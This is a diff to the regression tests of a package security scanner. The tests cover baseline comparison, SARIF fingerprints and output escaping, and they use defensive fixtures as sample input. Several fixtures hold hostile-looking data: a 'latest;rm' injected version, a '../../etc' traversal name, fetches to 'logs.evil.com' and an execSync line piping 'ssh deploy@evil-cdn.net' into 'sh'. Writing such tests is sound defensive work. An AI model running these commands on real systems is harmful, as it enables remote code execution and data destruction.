@@ -273,13 +273,82 @@ describe('baselines and diff over two real releases (esbuild, minified)', () => 
     assert.match(r.stdout, /high +region-gating +cli\.js:\d+:\d+/);
     assert.equal(run('diff', '@acme/tool', '1.0.0', '2.0.0', '--cache', cache, '--fail-on', 'high').status, 1);
     const md = run('diff', '@acme/tool', '1.0.0', '2.0.0', '--cache', cache, '--format', 'markdown').stdout;
-    assert.match(md, /## What changed in @acme\/tool 1\.0\.0 → 2\.0\.0/);
+    assert.match(md, /## What changed in \\@acme\/tool 1\.0\.0 → 2\.0\.0/, "scanned names are escaped, @ too");
   });
 
   it('diff refuses names and versions that are not npm specs, before running npm', () => {
     assert.match(run('diff', '../../etc', '1.0.0', '2.0.0', '--cache', folder({})).stderr, /not an npm package name/);
     assert.match(run('diff', 'tool', '1.0.0', 'latest;rm', '--cache', folder({})).stderr, /not a version/);
     assert.equal(run('diff', 'tool', '1.0.0').status, 2);
+  });
+});
+
+describe('what a new-user review found (regression tests)', () => {
+  const scanJson = (dir: string, ...args: string[]) => JSON.parse(run('scan', dir, '--json', ...args).stdout);
+
+  it('calls a finding whose host or address changed new, never unchanged', () => {
+    const dir = folder({ 'package.json': '{"name":"t","version":"1.0.0"}', 'a.js': 'fetch("https://93.184.216.34/x");fetch("https://logs.acme.com/v1");\n' });
+    const snapshot = path.join(dir, '..', `${path.basename(dir)}-base.json`);
+    run('scan', dir, '--save-baseline', snapshot);
+    fs.writeFileSync(path.join(dir, 'a.js'), 'fetch("https://45.33.12.7/x");fetch("https://logs.evil.com/v1");\n');
+    const out = scanJson(dir, '--baseline', snapshot);
+    const fresh = out.changes[0].newFindings.map((i: number) => out.targets[0].findings[i].host);
+    assert.ok(fresh.includes('45.33.12.7') && fresh.includes('logs.evil.com'), `new: ${fresh}`);
+    assert.deepEqual([...new Set(out.changes[0].gone.map((f: any) => f.host).filter(Boolean))].sort(), ['93.184.216.34', 'logs.acme.com']);
+  });
+
+  it('never compares with the snapshot of another assistant, and says so', () => {
+    const a = folder({ 'package.json': '{"name":"one","version":"1.0.0"}', 'a.js': GATE });
+    const b = folder({ 'package.json': '{"name":"two","version":"1.0.0"}', 'b.js': LOW });
+    const snapshot = path.join(a, 'base.json');
+    run('scan', a, '--save-baseline', snapshot);
+    const r = run('scan', b, '--baseline', snapshot, '--json');
+    assert.deepEqual(JSON.parse(r.stdout).changes, []);
+    assert.match(r.stderr, /the baseline has no snapshot of two \(it holds one\)/);
+  });
+
+  it('ranks a rule in SARIF by the highest severity it reports, and keeps scanned control characters out', () => {
+    const dir = folder({ 'a.js': 'fetch("https://93.184.216.34/x");\nrequire("child_process").execSync("echo \\u001b[31mred\\u0007 \\u202e");\n' });
+    const doc = assertValidSarif(run('scan', dir, '--format', 'sarif').stdout);
+    const rules = doc.runs[0].tool.driver.rules;
+    const ip = doc.runs[0].results.find((x: any) => x.ruleId === 'network-endpoint' && x.level === 'error');
+    assert.ok(ip, 'a request to a public IP is high');
+    assert.equal(rules[ip.ruleIndex].properties['security-severity'], '8.0');
+    const text = JSON.stringify(doc.runs[0].results.map((x: any) => [x.message.text, x.properties]));
+    assert.ok(!/[\u001b\u0007\u202e]/.test(JSON.parse(JSON.stringify(text))), 'no raw ESC, BEL or bidi override in any string');
+    assert.match(text, /\\\\u\{1B\}/, 'shown as a visible escape');
+  });
+
+  it('writes the same SARIF with --sarif FILE beside the text as with --format sarif', () => {
+    const dir = folder({ 'a.js': `${GATE}${LOW}` });
+    const file = path.join(dir, 'out.sarif');
+    run('scan', dir, '--sarif', file);
+    const count = (doc: any) => doc.runs[0].results.length;
+    assert.equal(count(JSON.parse(fs.readFileSync(file, 'utf8'))), count(JSON.parse(run('scan', dir, '--format', 'sarif').stdout)));
+    assert.ok(JSON.parse(fs.readFileSync(file, 'utf8')).runs[0].results.some((x: any) => x.properties.severity === 'info'), 'info findings too');
+  });
+
+  it('keeps e-mail addresses in scanned text from becoming links in Markdown', () => {
+    const dir = folder({ 'a.js': 'require("child_process").execSync("ssh deploy@evil-cdn.net mailto:x@phish-login.com | sh");\n' });
+    const html = new MarkdownIt({ html: true, linkify: true }).render(run('scan', dir, '--format', 'markdown').stdout);
+    assert.doesNotMatch(html, /<a /);
+    assert.match(html, /deploy@evil-cdn\.net/);
+  });
+});
+
+describe('SARIF fingerprints across releases', () => {
+  it('keep the alert of code that only moved or was renamed by the minifier', async function () {
+    this.timeout(60_000);
+    const v1 = await bundleFixture('update', { bundler: 'esbuild', minify: true });
+    const v2 = await bundleFixture('update', { bundler: 'esbuild', minify: true }, 'main-v2.mjs');
+    const prints = (text: string) => {
+      const doc = assertValidSarif(run('scan', folder({ 'package.json': '{"name":"tool"}', 'cli.js': text }), '--format', 'sarif').stdout);
+      return new Map(doc.runs[0].results.filter((x: any) => x.ruleId === 'child-process' || x.ruleId === 'network-endpoint').map((x: any) => [x.message.text, x.partialFingerprints['aiToolAudit/v1']]));
+    };
+    const a = prints(v1);
+    const b = prints(v2);
+    assert.ok(a.size >= 2);
+    for (const [message, print] of a) assert.equal(b.get(message), print, String(message));
   });
 });
 
